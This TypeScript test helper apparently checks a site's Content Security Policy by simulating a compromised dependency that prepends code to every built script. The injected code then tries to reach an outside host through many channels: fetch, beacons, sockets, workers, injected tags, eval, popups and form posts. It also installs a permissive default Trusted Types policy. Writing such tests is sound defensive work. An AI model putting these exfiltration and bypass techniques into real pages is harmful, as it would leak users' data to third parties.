import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { filesIn } from '../../tools/build/files.mjs';

/**
 * The finished folder as a dependency gone bad would leave it: `code` runs before any other, in every script. Without its
 * policy, no page says one either.
 */
export function folderWithBadDependency(code: string, { hasPolicy = true } = {}) {
  const folder = mkdtempSync(join(tmpdir(), 'bad-'));
  cpSync('out', folder, { recursive: true });
  for (const file of filesIn(folder).filter((name) => /\.(js|html)$/.test(name))) {
    const text = readFileSync(join(folder, file), 'utf8');
    const changed = file.endsWith('.html')
      ? text.replace(hasPolicy ? /$^/ : /<meta http-equiv="Content-Security-Policy"[^>]*>/, '')
      : file.startsWith('_next/')
        ? `${code}\n${text}`
        : text;
    if (changed === text) continue;
    for (const packed of ['.br', '.gz']) rmSync(join(folder, `${file}${packed}`), { force: true });
    writeFileSync(join(folder, file), changed);
  }
  return { folder, remove: () => rmSync(folder, { recursive: true, force: true }) };
}

/**
 * Runs in the browser, in a page or in a worker. Opens every given file of the site as a window, a frame, a worker and a
 * shared worker, and tries from inside each to reach `outside`, at `/<place>/<way>`. A page says in `document.title` when
 * it has tried everything.
 */
export function openOwnFiles(outside: string, addresses: readonly string[]) {
  const started = globalThis as { isAttacked?: boolean; document?: Document };
  if (started.isAttacked) return;
  started.isAttacked = true;

  const quietly = (attempt: () => unknown) => {
    try {
      Promise.resolve(attempt()).catch(() => {});
    } catch {
      // Refused: that is what the log of the other server is asked about.
    }
  };
  const asCode = (address: string) => `fetch(${JSON.stringify(address)},{mode:'no-cors'})`;

  if (started.document === undefined) {
    const place = 'onconnect' in globalThis ? 'shared-worker' : 'worker';
    const to = (way: string) => `${outside}/${place}/${way}`;
    quietly(() => fetch(to('fetch'), { mode: 'no-cors' }));
    quietly(() => new WebSocket(to('socket').replace('http', 'ws')));
    quietly(() => new EventSource(to('event-source')));
    quietly(() => import(/* webpackIgnore: true */ to('import')));
    quietly(() => {
      const request = new XMLHttpRequest();
      request.open('GET', to('xhr'));
      request.send();
    });
    return;
  }

  // The first script makes the one policy that the page allows, and so may turn any text into an address of code.
  const { trustedTypes } = globalThis as unknown as {
    trustedTypes: { createPolicy: (name: string, rules: object) => unknown };
  };
  const same = (text: string) => text;
  quietly(() => trustedTypes.createPolicy('default', { createHTML: same, createScript: same, createScriptURL: same }));

  const wait = (milliseconds: number) => new Promise((done) => setTimeout(done, milliseconds));
  const loaded = async (view: Window, address: string) => {
    for (let times = 0; times < 40; times += 1) {
      await wait(50);
      try {
        const { location, document } = view;
        if (location.pathname.startsWith(address) && document.readyState === 'complete' && document.body) return;
      } catch {
        return;
      }
    }
  };
  const tryFrom = (view: Window & typeof globalThis, place: string) => {
    const to = (way: string) => `${outside}/${place}/${way}`;
    const add = (name: string, attributes: Record<string, string>) => {
      const element = view.document.createElement(name);
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
      view.document.body.append(element);
      return element as HTMLElement & HTMLFormElement;
    };
    quietly(() => view.fetch(to('fetch'), { mode: 'no-cors' }));
    quietly(() => view.navigator.sendBeacon(to('beacon'), 'x'));
    quietly(() => new view.WebSocket(to('socket').replace('http', 'ws')));
    quietly(() => add('img', { src: to('image') }));
    quietly(() => add('link', { rel: 'stylesheet', href: to('style-sheet') }));
    quietly(() => add('script', { src: to('script') }));
    quietly(() => view.eval(asCode(to('eval'))));
    quietly(() => view.open(to('popup')));
    quietly(() => add('a', { href: to('ping-target'), ping: to('ping'), target: '_blank' }).click());
    quietly(() => add('form', { action: to('form'), method: 'post', target: '_blank' }).submit());
    quietly(() => add('a', { href: to('navigation') }).click());
  };

  const run = async () => {
    for (const address of addresses) {
      quietly(() => new Worker(address, { type: 'module' }));
      quietly(() => new SharedWorker(address, { type: 'module' }));
      const frame = document.createElement('iframe');
      frame.src = address;
      document.body.append(frame);
      const opened = window.open(address);
      const views = [
        ['window', opened],
        ['frame', frame.contentWindow],
      ] as const;
      for (const [place, view] of views) {
        if (!view) continue;
        await loaded(view, address);
        quietly(() => tryFrom(view as Window & typeof globalThis, place));
      }
      await wait(300);
      opened?.close();
    }
    document.title = 'attacked';
  };
  if (!window.opener && window === window.top) setTimeout(run, 500);
}
